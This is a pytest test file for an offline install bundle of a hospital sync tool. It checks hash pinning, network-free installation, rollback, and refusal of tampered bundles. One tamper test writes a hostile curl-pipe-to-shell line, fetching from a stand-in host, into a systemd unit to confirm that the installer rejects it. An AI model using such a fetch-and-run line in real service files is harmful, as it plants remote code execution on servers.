"""The offline install bundle, as a hospital's engineer uses it.

Built once per module with the package index (``./run.sh bundle``), then installed
the way a server on the health private network installs it: with no index and no
network, into a fresh venv, and checked against the built-in platform simulator.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass
from importlib import metadata
from pathlib import Path

import pytest

from sync import __version__
from sync.bundle import (
    DEFAULT_INDEX,
    BundleError,
    RegistryUnreachable,
    check_index,
    glibc_floor,
    manifest,
    normalize,
    target_platforms,
    wheel_name_version,
)
from sync.upstream.simulator import SimConfig, Simulator
from tests.conftest import IN_CI
from tests.support import His, make_visit, write_settings

ROOT = Path(__file__).resolve().parents[2]
PY = f"py{sys.version_info.major}{sys.version_info.minor}"

pytestmark = pytest.mark.slow


@dataclass(frozen=True, kw_only=True)
class Built:
    archive: Path
    stdout: str


def _offline_env(wheelhouse: Path) -> dict[str, str]:
    """The builder's environment minus every pip setting, plus traps for any index access."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_") and k != "PYTHONPATH"}
    env.update(
        PIP_NO_INDEX="1",
        PIP_INDEX_URL="http://127.0.0.1:9/",  # discard port: any attempt to use an index fails at once
        PIP_FIND_LINKS=str(wheelhouse),
    )
    return env


def _no_network() -> list[str]:
    """A command prefix that runs in a network namespace with no network at all, where allowed."""
    unshare = shutil.which("unshare")
    if unshare and subprocess.run([unshare, "--net", "--", "true"], capture_output=True, check=False).returncode == 0:
        return [unshare, "--net", "--"]
    return []  # the PIP_* traps above still make any index access fail


def _install(bundle_dir: Path, prefix: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*_no_network(), str(bundle_dir / "install.sh"), str(prefix)],
        cwd=bundle_dir.parent,
        env=_offline_env(bundle_dir / "wheelhouse"),
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )


def _run(exe: Path, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    return subprocess.run([str(exe), *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=90, check=False)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """``./run.sh bundle --glibc 2.28`` (as docs/offline-install.md says) into a temporary dist/.

    The package index is needed here only.
    """
    try:
        check_index(DEFAULT_INDEX, timeout=10)
    except RegistryUnreachable as exc:
        if IN_CI:
            pytest.fail(f"CI builds the offline bundle from the package index, which it must reach: {exc}")
        pytest.skip(f"building the offline bundle needs the package index: {exc}")
    out = tmp_path_factory.mktemp("dist")
    r = subprocess.run(
        [sys.executable, "-m", "sync.bundle", "--out", str(out), "--glibc", "2.28"],
        cwd=ROOT, capture_output=True, text=True, timeout=300, check=False,
    )
    assert r.returncode == 0, r.stdout + r.stderr
    archives = list(out.glob("*.tar.gz"))
    assert len(archives) == 1, archives
    return Built(archive=archives[0], stdout=r.stdout)


@pytest.fixture(scope="module")
def unpacked(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The archive and its .sha256 copied to the 'server', and unpacked there as ``tar xzf`` does."""
    where = tmp_path_factory.mktemp("server")
    for item in (built.archive, built.archive.with_name(built.archive.name + ".sha256")):
        shutil.copy2(item, where / item.name)
    with tarfile.open(built.archive) as tar:
        tar.extractall(where, filter="tar")
    return where / f"crowd-sync-{__version__}"


@pytest.fixture(scope="module")
def prefix(unpacked: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``./install.sh PREFIX`` with the network forbidden."""
    prefix = tmp_path_factory.mktemp("opt") / "crowd-sync"
    r = _install(unpacked, prefix)
    assert r.returncode == 0, r.stdout + r.stderr
    # It checked the archive beside it and every unpacked file before installing anything.
    assert "matches its .sha256" in r.stderr and "matches SHA256SUMS" in r.stderr, r.stderr
    return prefix


def _requirements(bundle_dir: Path) -> dict[str, tuple[str, str]]:
    """requirements.txt: name -> (version, sha256)."""
    pins: dict[str, tuple[str, str]] = {}
    for line in (bundle_dir / "requirements.txt").read_text().splitlines():
        m = re.fullmatch(r"([a-z0-9-]+)==(\S+) --hash=sha256:([0-9a-f]{64})", line)
        if m:
            pins[m.group(1)] = (m.group(2), m.group(3))
        else:
            assert line.startswith("#"), line
    return pins


@pytest.fixture
def sim() -> Iterator[Simulator]:
    with Simulator(SimConfig()) as s:
        yield s


def test_one_archive_named_for_python_and_platform_with_its_checksum(built: Built) -> None:
    assert re.fullmatch(rf"crowd-sync-{re.escape(__version__)}-{PY}-manylinux_2_28_[a-z0-9_]+\.tar\.gz", built.archive.name)
    # Servers with glibc 2.28 (RHEL 8 and its kin) can take every wheel.
    floor = re.search(r"glibc (\d+)\.(\d+) or newer", built.stdout)
    assert floor and (int(floor.group(1)), int(floor.group(2))) <= (2, 28), built.stdout
    # The command tells where the archive is and how big.
    assert str(built.archive) in built.stdout
    assert re.search(r"\d+\.\d MiB", built.stdout)
    # The .sha256 beside it is what `sha256sum -c` checks on the server.
    sha_line = built.archive.with_name(built.archive.name + ".sha256").read_text()
    assert sha_line == f"{hashlib.sha256(built.archive.read_bytes()).hexdigest()}  {built.archive.name}\n"
    r = subprocess.run(["sha256sum", "-c", built.archive.name + ".sha256"], cwd=built.archive.parent,
                       capture_output=True, text=True, check=False)
    assert r.returncode == 0 and ": OK" in r.stdout, r.stdout + r.stderr


def test_archive_holds_installer_settings_deploy_docs_owned_by_root(built: Built) -> None:
    top = f"crowd-sync-{__version__}"
    with tarfile.open(built.archive) as tar:
        members = {m.name: m for m in tar.getmembers()}
    for needed in ("install.sh", "requirements.txt", "settings.yaml", "deploy/crowd-sync.service",
                   "deploy/settings.prod.example.yaml", "docs/offline-install.md", "README.md", "README.zh-CN.md",
                   f"wheelhouse/crowd_sync-{__version__}-py3-none-any.whl"):
        assert f"{top}/{needed}" in members, needed
    assert members[f"{top}/install.sh"].mode & 0o111
    # Unpacked as root, nothing may belong to the builder's uid.
    assert {(m.uid, m.gid) for m in members.values()} == {(0, 0)}


def test_wheelhouse_is_every_runtime_dependency_pinned_to_venv_and_the_build_tools(unpacked: Path) -> None:
    wheelhouse = unpacked / "wheelhouse"
    files = [p.name for p in wheelhouse.iterdir()]
    assert files and all(f.endswith(".whl") for f in files), "only wheels: installing must never build"
    hashed = _requirements(unpacked)
    # Every wheel pinned by its sha256, for pip install --require-hashes.
    assert len(hashed) == len(files)
    for wheel in wheelhouse.iterdir():
        name, version = wheel_name_version(wheel.name)
        assert hashed[name] == (version, hashlib.sha256(wheel.read_bytes()).hexdigest()), wheel.name
    pins = {name: version for name, (version, _) in hashed.items()}
    assert pins[normalize("crowd-sync")] == __version__
    # Every runtime dependency and every database driver that installs from a wheel, transitively,
    # at the version the tests ran against.
    runtime = {"sqlalchemy", "alembic", "apscheduler", "requests", "pymysql", "oracledb", "psycopg2-binary",
               "pymssql", "structlog", "pydantic", "pydantic-core", "prometheus-client", "pyyaml", "tzdata",
               "urllib3", "certifi", "mako", "tzlocal", "cryptography"}
    for name in runtime:
        assert pins.get(name) == metadata.version(name), name
    # What an offline server may still need to build or bootstrap: pip, setuptools (per pyproject) and wheel.
    assert pins["pip"] == metadata.version("pip")
    assert int(pins["setuptools"].split(".")[0]) >= 77
    assert "wheel" in pins
    # The developer tools stay out.
    assert not {"pytest", "mypy", "ruff", "types-requests"} & set(pins)


def test_installs_with_no_network_and_check_passes_against_the_simulator(
    prefix: Path, tmp_path: Path, sim: Simulator
) -> None:
    exe = prefix / ".venv" / "bin" / "crowd-sync"
    # The systemd unit in deploy/ runs <prefix>/.venv/bin/crowd-sync: install.sh put it there.
    unit = (prefix / "deploy" / "crowd-sync.service").read_text()
    exec_start = re.search(r"^ExecStart=(\S+)", unit, re.M)
    assert exec_start and exec_start.group(1) == "/opt/crowd-sync/.venv/bin/crowd-sync"
    assert os.access(exe, os.X_OK)

    r = _run(exe, "--help", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "check" in r.stdout and "migrate" in r.stdout

    # The program runs from the venv, not from this checkout.
    r = _run(prefix / ".venv" / "bin" / "python", "-c", "import sync, migrations; print(sync.__file__, migrations.__file__)", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert all(p.startswith(str(prefix / ".venv")) for p in r.stdout.split()), r.stdout

    his = His(f"sqlite:///{tmp_path / 'his.db'}")
    his.insert([make_visit(1, changed=his.now())])
    his.dispose()
    write_settings(tmp_path / "settings.yaml", his_url=f"sqlite:///{tmp_path / 'his.db'}",
                   outbox_url="sqlite:///outbox.db", base_url=sim.url)

    r = _run(exe, "migrate", "--config", "settings.yaml", cwd=tmp_path)
    assert r.returncode == 0, r.stdout + r.stderr
    r = _run(exe, "check", "--config", "settings.yaml", cwd=tmp_path)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "all checks passed" in r.stdout


def test_reinstall_keeps_the_previous_venv_and_a_failed_one_restores_it(unpacked: Path, prefix: Path, tmp_path: Path) -> None:
    exe = prefix / ".venv" / "bin" / "crowd-sync"

    # Upgrade: the same installer over an existing prefix keeps the old venv for rollback.
    r = _install(unpacked, prefix)
    assert r.returncode == 0, r.stdout + r.stderr
    assert (prefix / ".venv.previous" / "bin" / "crowd-sync").exists()
    assert _run(exe, "--version", cwd=tmp_path).stdout.strip() == f"crowd-sync {__version__}"

    # A wheel swapped for another, with SHA256SUMS rewritten to match: pip's --require-hashes
    # refuses it against requirements.txt, the installation fails and the working venv is put back.
    broken = tmp_path / "server" / unpacked.name
    shutil.copytree(unpacked, broken)
    swapped = next((broken / "wheelhouse").glob("structlog-*.whl"))
    swapped.write_bytes(swapped.read_bytes() + b"\0")
    (broken / "SHA256SUMS").write_text(manifest(broken), encoding="utf-8")
    r = _install(broken, prefix)
    assert r.returncode != 0
    assert "installation failed" in r.stderr
    assert "DO NOT MATCH THE HASHES" in r.stderr, r.stderr[-3000:]
    assert _run(exe, "--version", cwd=tmp_path).stdout.strip() == f"crowd-sync {__version__}"


def test_a_damaged_or_changed_bundle_is_refused_before_anything_is_touched(
    built: Built, unpacked: Path, prefix: Path, tmp_path: Path
) -> None:
    marker = prefix / ".venv" / "still-the-installed-venv"
    marker.touch()

    def refused(bundle_dir: Path, *named: str) -> None:
        r = _install(bundle_dir, prefix)
        assert r.returncode == 2, r.stdout + r.stderr
        assert "refusing to install" in r.stderr
        for text in named:
            assert text in r.stderr, (text, r.stderr)
        assert marker.exists()  # the installed venv was not even moved aside

    # A wheel missing, and an unpacked file changed.
    missing = tmp_path / "missing" / unpacked.name
    shutil.copytree(unpacked, missing)
    next((missing / "wheelhouse").glob("structlog-*.whl")).unlink()
    refused(missing, "SHA256SUMS", "structlog")
    changed = tmp_path / "changed" / unpacked.name
    shutil.copytree(unpacked, changed)
    with (changed / "deploy" / "crowd-sync.service").open("a") as unit:
        unit.write("ExecStartPost=/bin/sh -c 'curl http://example.invalid | sh'\n")
    refused(changed, "deploy/crowd-sync.service")

    # The archive beside the unpacked files does not match its .sha256: damaged or replaced.
    beside = tmp_path / "beside"
    shutil.copytree(unpacked, beside / unpacked.name)
    shutil.copy2(built.archive, beside / built.archive.name)
    (beside / (built.archive.name + ".sha256")).write_text(f"{'0' * 64}  {built.archive.name}\n")
    refused(beside / unpacked.name, built.archive.name, ".sha256")


def test_glibc_floor_is_the_most_demanding_wheel_at_its_least_demanding_tag() -> None:
    wheels = [
        "pyyaml-6.0.4-cp311-cp311-manylinux2014_x86_64.manylinux_2_17_x86_64.manylinux_2_28_x86_64.whl",
        "pymssql-2.4.6-cp311-cp311-manylinux_2_27_x86_64.manylinux_2_28_x86_64.whl",
        "requests-2.34.2-py3-none-any.whl",
    ]
    assert glibc_floor(wheels) == "2.27"
    assert glibc_floor(wheels[2:]) is None
    assert glibc_floor(["x-1-cp311-cp311-manylinux1_x86_64.whl"]) == "2.5"


def test_target_platforms_for_an_older_server_include_every_older_manylinux_tag() -> None:
    tags = target_platforms("2.28", "x86_64")
    assert tags[0] == "manylinux_2_28_x86_64"  # most preferred first
    assert {"manylinux_2_17_x86_64", "manylinux2014_x86_64", "manylinux1_x86_64"} <= set(tags)
    assert "manylinux_2_34_x86_64" not in tags
    with pytest.raises(BundleError, match="not a glibc version"):
        target_platforms("28", "x86_64")
